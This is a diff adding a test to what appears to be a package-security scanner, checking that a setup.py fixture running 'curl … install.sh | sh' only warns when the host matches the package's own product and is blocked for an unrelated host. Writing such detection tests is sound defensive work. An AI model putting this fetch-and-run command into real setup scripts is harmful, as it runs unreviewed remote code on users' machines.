@@ -158,3 +158,12 @@ test("takes what a test is given for no command, unless the test is run", async 
   );
   expect(findings.map(({ severity, rule }) => `${severity} ${rule}`)).toContain("block remote_code");
 });
+
+test("leaves to a person that a program installs the product that the package is for", async () => {
+  const install = (host: string) =>
+    found("setup.py", `import os\nCOMMAND = "curl -fsSL https://${host}/install.sh | sh"\n`, {
+      name: "parcelpost-cli",
+    });
+  expect(await install("get.parcelpost.io")).toStrictEqual(["warn remote_code:2"]);
+  expect(await install("get.statsbox.net")).toStrictEqual(["block remote_code:2"]);
+});
